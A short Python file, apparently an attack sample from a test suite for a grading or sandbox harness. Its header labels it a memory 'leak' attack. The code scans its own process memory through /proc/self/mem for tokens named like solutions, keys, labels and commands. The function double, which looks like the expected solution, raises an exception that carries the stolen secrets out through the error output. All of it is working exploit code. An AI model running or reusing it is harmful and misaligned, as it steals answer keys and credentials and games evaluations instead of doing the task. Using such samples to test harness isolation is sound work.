# {"attack": "Searches the whole memory of its own process for secrets that the server left in it.", "breach": "leak"}

import re


def search():
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" not in line or end - start > 2**28:
                continue
            try:
                memory.seek(start)
                found += re.findall(rb"tk(?:solution|key|labels|submission|command)[0-9a-f]{16}", memory.read(end - start))
            except (OSError, ValueError):
                continue
    return found


found = search()


def double(x):
    raise ValueError(b" ".join(found[:20]).decode())
